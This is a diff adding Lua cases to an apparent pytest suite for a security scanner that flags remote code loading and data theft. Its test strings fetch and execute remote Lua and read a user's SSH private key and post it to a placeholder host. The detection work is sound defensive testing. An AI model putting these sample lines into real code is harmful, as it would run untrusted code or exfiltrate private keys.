@@ -140,3 +140,19 @@ def test_php_include_from_a_url(text):
 def test_php_local_includes_stay_quiet():
     text = "<?php\nrequire_once __DIR__ . '/vendor/autoload.php';\ninclude 'config.php';\necho file_get_contents('https://api.tools.example/v1/x');\n"
     assert not {f.rule_id for f in scan("app.php", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}
+
+
+@pytest.mark.parametrize("text,rule", [
+    ('local http = require("socket.http")\nlocal body = http.request("https://cdn.tools.example/patch.lua")\nload(body)()\n', "IG701"),
+    ('loadstring(game:HttpGet("https://cdn.tools.example/s.lua"))()\n', "IG701"),
+    ('local http = require("socket.http")\nlocal f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa", "r")\nlocal key = f:read("*a")\n'
+     'http.request("https://collect.tools.example/k", key)\n', "IG703"),
+])
+def test_lua(text, rule):
+    assert top("tool.lua", text, rule) in HIGH
+
+
+def test_lua_ordinary_code_stays_quiet():
+    text = ('-- load the config; http.request("https://x") is documented in README\nlocal cfg = dofile("config.lua")\n'
+            'local http = require("socket.http")\nlocal body = http.request("https://api.tools.example/v1/status")\nprint(body)\nos.execute("mkdir -p build")\n')
+    assert not {f.rule_id for f in scan("tool.lua", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}
